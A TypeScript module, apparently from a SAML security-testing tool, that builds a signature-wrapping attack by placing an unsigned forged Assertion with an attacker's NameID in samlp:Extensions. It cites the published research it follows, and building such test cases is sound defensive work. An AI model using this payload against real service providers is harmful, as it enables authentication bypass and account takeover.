/*
 * Assertion in samlp:Extensions (Somorovsky et al., "On Breaking SAML", USENIX Security 2012, §4, the
 * Extensions variant; the mirror image of XSW7): the genuine, signed Assertion stays where it is and its
 * signature still verifies; an unsigned evil copy (the attacker's NameID, a fresh ID) goes into the Response's
 * samlp:Extensions, which comes first in document order. An SP that verifies "the signed assertion" by ID but
 * reads "the first Assertion" (//saml:Assertion, getElementsByTagName) signs the attacker in.
 * saml-profiles §4.1.4.2: the assertions are the Response's children; Extensions carries no assertion.
 * With a signed Response the insertion breaks the Response's signature, as it would for a real attacker.
 */
import { NS } from '../namespaces.ts';
import { firstChild, parseXml, serialize } from '../xml.ts';
import { evilCopy, genuineAssertion } from './evil-assertion.ts';

export function assertionInExtensions(xml: string, attackerNameId: string): string {
  const doc = parseXml(xml, 'signed Response');
  const response = doc.documentElement!;
  const genuine = genuineAssertion(response, 'assertionInExtensions');
  let extensions = firstChild(response, NS.protocol, 'Extensions');
  if (!extensions) {
    extensions = doc.createElementNS(NS.protocol, 'samlp:Extensions');
    // Schema order (saml-core §3.2.2): Issuer, Signature, Extensions, Status, then the assertions.
    response.insertBefore(extensions, firstChild(response, NS.protocol, 'Status') ?? genuine);
  }
  extensions.appendChild(evilCopy(genuine, attackerNameId));
  return serialize(doc);
}
